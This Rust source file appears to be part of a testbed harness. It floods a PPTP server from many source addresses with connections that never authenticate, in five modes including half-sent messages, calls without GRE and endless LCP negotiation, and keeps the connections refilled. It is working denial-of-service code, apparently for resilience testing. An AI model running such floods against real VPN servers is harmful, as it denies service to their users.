//! Connections from many addresses that never log in, kept refilled.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::rc::Rc;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use adit_testbed::Host;
use adit_wire::pptp::{
    Frame, Framer, Message, OutgoingCallReply, OutgoingCallRequest, PORT, StartControlConnectionRequest,
};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;
use tokio::task::LocalSet;

use crate::loops::{Loops, Peer};
use crate::net::SERVER;

/// What a connection does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    /// Closes at once.
    Close,
    /// Sends nothing.
    Silent,
    /// Sends half of its first message.
    Half,
    /// Sends Start-Control-Connection-Request and Outgoing-Call-Request, and no GRE.
    Calls,
    /// The same, and negotiates LCP without an end.
    Loops,
}

impl Kind {
    pub(crate) const ALL: [Kind; 5] = [Kind::Close, Kind::Silent, Kind::Half, Kind::Calls, Kind::Loops];

    pub(crate) const fn name(self) -> &'static str {
        match self {
            Kind::Close => "(a) connect and close",
            Kind::Silent => "(b) silent",
            Kind::Half => "(c) half messages",
            Kind::Calls => "(d) calls without GRE",
            Kind::Loops => "(e) LCP loops",
        }
    }
}

/// The bounds of a flood.
#[derive(Clone, Debug)]
pub(crate) struct FloodPlan {
    pub(crate) kind: Kind,
    /// Connections at once.
    pub(crate) slots: u32,
    /// Their source addresses, in turn.
    pub(crate) sources: Vec<Ipv4Addr>,
    /// New connections a second.
    pub(crate) rate: u32,
    /// Connections at the most.
    pub(crate) total: u64,
}

/// What has happened so far.
#[derive(Debug, Default)]
pub(crate) struct Counts {
    pub(crate) made: AtomicU64,
    pub(crate) refused: AtomicU64,
    pub(crate) ended: AtomicU64,
}

impl Counts {
    pub(crate) fn open(&self) -> u64 {
        self.made.load(Ordering::Relaxed).saturating_sub(self.ended.load(Ordering::Relaxed))
    }

    /// Attempts so far, successful or not.
    pub(crate) fn tried(&self) -> u64 {
        self.made.load(Ordering::Relaxed) + self.refused.load(Ordering::Relaxed)
    }
}

/// A flood in progress; it ends when this is dropped.
pub(crate) struct Flood {
    pub(crate) counts: Arc<Counts>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<anyhow::Result<()>>>,
}

/// How long a connection may take to be accepted.
const CONNECT: Duration = Duration::from_secs(5);
/// New connections are permitted this often, so that they are spread over a second.
const STEP: Duration = Duration::from_millis(10);

impl Flood {
    /// Starts the flood from a host.
    pub(crate) fn start(host: &Host, plan: FloodPlan) -> Flood {
        let (counts, stop) = (Arc::new(Counts::default()), Arc::new(AtomicBool::new(false)));
        let (shared, is_over) = (Arc::clone(&counts), Arc::clone(&stop));
        let thread = host.thread(move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
            // Dropping the set closes every connection.
            LocalSet::new().block_on(&runtime, keep_refilled(plan, shared, is_over))
        });
        Flood { counts, stop, thread: Some(thread) }
    }

    /// Whether it has ended by itself: all connections were made, or it could not start.
    pub(crate) fn has_ended(&self) -> bool {
        self.thread.as_ref().is_none_or(JoinHandle::is_finished)
    }

    /// Ends it.
    ///
    /// # Errors
    /// If it could not start.
    pub(crate) fn finish(mut self) -> anyhow::Result<()> {
        self.stop.store(true, Ordering::Relaxed);
        let Some(thread) = self.thread.take() else { return Ok(()) };
        thread.join().unwrap_or_else(|_| Err(anyhow::anyhow!("the flood panicked")))
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

async fn keep_refilled(plan: FloodPlan, counts: Arc<Counts>, stop: Arc<AtomicBool>) -> anyhow::Result<()> {
    let loops = match plan.kind {
        Kind::Loops => Some(Rc::new(Loops::open()?)),
        _ => None,
    };
    if let Some(loops) = loops.clone() {
        tokio::task::spawn_local(async move { loops.run().await });
    }
    let permits = Rc::new(Semaphore::new(0));
    for slot in 0..plan.slots {
        let source = plan.sources.get(slot as usize % plan.sources.len().max(1)).copied();
        let slot = Slot {
            kind: plan.kind,
            source: source.unwrap_or(Ipv4Addr::UNSPECIFIED),
            counts: Arc::clone(&counts),
            permits: Rc::clone(&permits),
            loops: loops.clone(),
        };
        tokio::task::spawn_local(slot.run());
    }
    let (started, mut permitted) = (Instant::now(), 0);
    let mut every = tokio::time::interval(STEP);
    while !stop.load(Ordering::Relaxed) {
        every.tick().await;
        let due = (started.elapsed().as_secs_f64() * f64::from(plan.rate)) as u64;
        let now = due.min(plan.total).saturating_sub(permitted);
        permitted += now;
        // Permits that no slot wanted do not add up to a burst.
        let unused = permits.available_permits();
        permits.forget_permits(unused.saturating_sub(plan.rate as usize / 10));
        permits.add_permits(now as usize);
        if permitted >= plan.total && counts.tried() >= plan.total && counts.open() == 0 {
            break;
        }
    }
    Ok(())
}

/// One of the connections, made again when it has ended.
struct Slot {
    kind: Kind,
    source: Ipv4Addr,
    counts: Arc<Counts>,
    permits: Rc<Semaphore>,
    loops: Option<Rc<Loops>>,
}

impl Slot {
    async fn run(self) {
        loop {
            let Ok(permit) = self.permits.acquire().await else { return };
            permit.forget();
            let connected = tokio::time::timeout(CONNECT, connect(self.source)).await;
            let Ok(Ok(stream)) = connected else {
                self.counts.refused.fetch_add(1, Ordering::Relaxed);
                continue;
            };
            self.counts.made.fetch_add(1, Ordering::Relaxed);
            // Whatever ends the connection, the next one follows.
            let _ = self.act(stream).await;
            self.counts.ended.fetch_add(1, Ordering::Relaxed);
        }
    }

    async fn act(&self, mut stream: TcpStream) -> std::io::Result<()> {
        let first = Message::from(StartControlConnectionRequest::new(b"flood", b"adit-attack")).to_octets();
        match self.kind {
            Kind::Close => return Ok(()),
            Kind::Silent => {}
            Kind::Half => stream.write_all(first.get(..first.len() / 2).unwrap_or_default()).await?,
            Kind::Calls | Kind::Loops => return self.call(stream, &first).await,
        }
        until_closed(&mut stream).await
    }

    /// Makes a call, and keeps it.
    async fn call(&self, mut stream: TcpStream, first: &[u8]) -> std::io::Result<()> {
        stream.write_all(first).await?;
        let mut framer = Framer::default();
        loop {
            if matches!(next(&mut stream, &mut framer).await?, Message::StartControlConnectionReply(_)) {
                break;
            }
        }
        // The calls behind one address have Call IDs of their own, as those of other hosts have.
        let port = stream.local_addr()?.port();
        let call_id = self.loops.as_ref().map_or(port, |loops| loops.free_call_id());
        stream.write_all(&Message::from(OutgoingCallRequest::new(call_id)).to_octets()).await?;
        let peer_call_id = loop {
            if let Message::OutgoingCallReply(OutgoingCallReply { call_id, .. }) =
                next(&mut stream, &mut framer).await?
            {
                break call_id;
            }
        };
        if let Some(loops) = &self.loops {
            loops.add(call_id, Peer::new(self.source, peer_call_id));
        }
        let ended = until_closed(&mut stream).await;
        if let Some(loops) = &self.loops {
            loops.remove(call_id);
        }
        ended
    }
}

async fn connect(source: Ipv4Addr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if !source.is_unspecified() {
        socket.bind(SocketAddr::V4(SocketAddrV4::new(source, 0)))?;
    }
    socket.connect(SocketAddr::V4(SocketAddrV4::new(SERVER, PORT))).await
}

/// Reads until the server closes. What it sends meanwhile is ignored.
async fn until_closed(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut input = [0; 512];
    while stream.read(&mut input).await? > 0 {}
    Ok(())
}

async fn next(stream: &mut TcpStream, framer: &mut Framer) -> std::io::Result<Message> {
    loop {
        match framer.next_frame() {
            Some(Ok(Frame::Message(message))) => return Ok(message),
            Some(Ok(Frame::Unknown(_))) => continue,
            Some(Err(error)) => return Err(std::io::Error::other(error.to_string())),
            None => {}
        }
        let mut input = [0; 256];
        let len = stream.read(&mut input).await?;
        if len == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        framer.push(input.get(..len).unwrap_or_default());
    }
}
